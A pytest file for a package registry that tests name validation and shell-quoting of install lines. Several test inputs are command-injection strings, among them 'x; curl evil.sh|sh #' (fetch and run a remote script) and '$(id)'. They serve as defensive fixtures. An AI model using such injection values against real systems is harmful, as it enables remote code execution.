"""Names over the API, on both databases: package, tag and version names are whole and from
their character set (registry.names), and a name differing only by trailing blanks, a newline or
a NUL is another name (MariaDB's PAD SPACE `utf8mb4_bin` made `alice/pub ` find `alice/pub`)."""

from __future__ import annotations

import html

import pytest
from sqlalchemy import select

from registry.models import Package, Tag
from tests.web.pages import PASSWORD, get, sign_in

FILES = {"README": b"# Pub\n"}
TAG_RULE = "Invalid tag name. Use 1-64 letters, digits, '.', '_' and '-', starting with a letter or digit."


@pytest.fixture
def pub(registry):
    """alice/pub, public, with `latest` on its only instance."""
    registry.create_user("alice", password=PASSWORD)
    registry.create_user("bob")
    token = registry.token("alice")
    response, top_hash = registry.push(token, "alice", "pub", FILES, is_public=True)
    assert response.status_code == 200, response.get_json()
    return registry, token, top_hash


def answer(response) -> tuple[int, str]:
    return response.status_code, response.get_json()["message"]


def test_a_package_name_with_a_trailing_newline_is_refused(registry):
    registry.create_user("bob")
    token = registry.token("bob")
    assert registry.push(token, "bob", "blobs", FILES)[0].status_code == 200
    response, top_hash = registry.push(token, "bob", "blobs%0A", FILES)  # a raw "\n" would be dropped from the URL
    assert answer(response) == (400, "Invalid package name")
    with registry.state.session_factory() as session:
        assert session.scalars(select(Package.name)).all() == ["blobs"]
    assert answer(registry.api("GET", "/api/tag/bob/blobs%0A/", token=token)) == (
        404, "Package bob/blobs\n does not exist")


@pytest.mark.parametrize("suffix", ["%20", "%20%20", "%0A", "%00", "%09"])
def test_a_name_with_a_blank_suffix_is_a_missing_package(pub, suffix):
    registry, token, top_hash = pub
    decoded = {"%20": " ", "%20%20": "  ", "%0A": "\n", "%00": "\x00", "%09": "\t"}[suffix]

    def answer_for(path: str, handle: str, shown: str) -> tuple[int, str]:
        status, text = answer(registry.api("GET", path.format(handle=handle), token=token))
        return status, text.replace(shown, "OWNER/NAME")

    for path in ("/api/package/{handle}/" + top_hash, "/api/tag/{handle}/", "/api/tag/{handle}/latest",
                 "/api/version/{handle}/", "/api/log/{handle}/", "/api/access/{handle}/"):
        never_pushed = answer_for(path, "alice/nope", "alice/nope")  # exactly what this must answer
        assert never_pushed[0] == 404, path
        assert answer_for(path, f"alice/pub{suffix}", f"alice/pub{decoded}") == never_pushed, path
        assert answer_for(path, f"alice{suffix}/pub", f"alice{decoded}/pub") == never_pushed, path
        assert registry.api("GET", path.format(handle="alice/pub"), token=token).status_code == 200, path
    assert get(registry.client, f"/package/alice/pub{suffix}")[0] == 404
    assert get(registry.client, "/package/alice/pub")[0] == 200


@pytest.mark.parametrize("tag", ["latest ", "latest  ", " latest", "latest\n", "x; curl evil.sh|sh #", "a\x00b",
                                 "\x00", "$(id)", "-rf", "..", "la\u200btest"])
def test_a_tag_outside_the_set_is_refused_and_stores_nothing(pub, tag):
    registry, token, top_hash = pub
    response = registry.api("PUT", "/api/tag/alice/pub/" + _quote(tag), token=token, body={"hash": top_hash})
    assert answer(response) == (400, TAG_RULE)
    assert _tags(registry) == ["latest"]
    # Nothing by that name to read, on either database: `latest ` is not `latest`.
    assert answer(registry.api("GET", "/api/tag/alice/pub/" + _quote(tag), token=token)) == (
        404, f"Tag '{tag}' does not exist")


def test_a_non_utf8_tag_name_is_refused(pub):
    registry, token, top_hash = pub
    # Werkzeug decodes %FF to U+FFFD; either way it is not in the set.
    assert answer(registry.api("PUT", "/api/tag/alice/pub/%FF", token=token, body={"hash": top_hash})) == (
        400, TAG_RULE)
    assert answer(registry.api("PUT", "/api/tag/alice/pub/ok%FF", token=token, body={"hash": top_hash})) == (
        400, TAG_RULE)
    assert registry.api("GET", "/api/tag/alice/pub/%FF", token=token).status_code == 404
    assert registry.api("DELETE", "/api/tag/alice/pub/%FF", token=token).status_code == 404
    assert _tags(registry) == ["latest"]


def test_tag_names_in_the_set_work(pub):
    registry, token, top_hash = pub
    for tag in ("v1.0", "2026-12-01", "rc_1", "A" * 64):
        assert registry.api("PUT", f"/api/tag/alice/pub/{tag}", token=token, body={"hash": top_hash}).status_code == 200
    assert _tags(registry) == sorted(["latest", "v1.0", "2026-12-01", "rc_1", "A" * 64])


def test_a_tag_stored_before_the_rule_can_be_read_and_deleted(pub):
    """Older registries accepted any tag name: such a tag stays reachable, exactly, and its owner
    can remove it. `latest ` here sits next to `latest` (a duplicate key under PAD SPACE)."""
    registry, token, top_hash = pub
    _store_tag(registry, "latest ")
    assert _tags(registry) == ["latest", "latest "]
    assert registry.api("GET", "/api/tag/alice/pub/latest%20", token=token).get_json()["hash"] == top_hash
    assert registry.api("DELETE", "/api/tag/alice/pub/latest%20", token=token).status_code == 200
    assert _tags(registry) == ["latest"]


def test_install_lines_on_the_page_are_shell_quoted(pub):
    registry, token, top_hash = pub
    evil = "x; curl evil.sh|sh #"
    _store_tag(registry, evil)  # only a tag from before the rule can look like this
    sign_in(registry.client, "alice")
    status, page = get(registry.client, "/package/alice/pub?tag=" + _quote(evil))
    assert status == 200
    page = html.unescape(page)
    assert "quilt install alice/pub -t 'x; curl evil.sh|sh #'" in page
    assert "registry-client install alice/pub -r http://localhost -t 'x; curl evil.sh|sh #'" in page
    assert "-t x; curl" not in page
    # Ordinary names stay as they were: quoting only what needs it.
    status, page = get(registry.client, "/package/alice/pub?tag=latest")
    assert "export QUILT_PKG_URL=http://localhost\nquilt install alice/pub -t latest</code>" in page


def test_versions_as_written_are_ascii(pub):
    registry, token, top_hash = pub
    put = lambda version: answer(registry.api("PUT", f"/api/version/alice/pub/{version}", token=token,  # noqa: E731
                                              body={"hash": top_hash}))
    assert put("1.0+%E2%84%AA") == (400, "Malformed version")  # the Kelvin sign, not K
    assert put("%E3%80%801.0") == (400, "Malformed version")  # an ideographic space, not a blank
    assert put("1.0%00") == (400, "Malformed version")
    assert registry.api("PUT", "/api/version/alice/pub/%201.0+Local-x%09", token=token,
                        body={"hash": top_hash}).status_code == 200
    assert registry.api("GET", "/api/version/alice/pub/", token=token).get_json() == {
        "versions": [{"version": "1.0+Local-x", "hash": top_hash}]}
    assert registry.api("GET", "/api/version/alice/pub/1.0+local.x", token=token).get_json()["hash"] == top_hash


def _quote(name: str) -> str:
    from urllib.parse import quote

    return quote(name, safe="")


def _tags(registry) -> list[str]:
    with registry.state.session_factory() as session:
        return sorted(session.scalars(select(Tag.name)))


def _store_tag(registry, name: str) -> None:
    with registry.state.session_factory() as session:
        latest = session.scalar(select(Tag).where(Tag.name == "latest"))
        session.add(Tag(package_id=latest.package_id, name=name, instance_id=latest.instance_id, updated_by="alice"))
        session.commit()
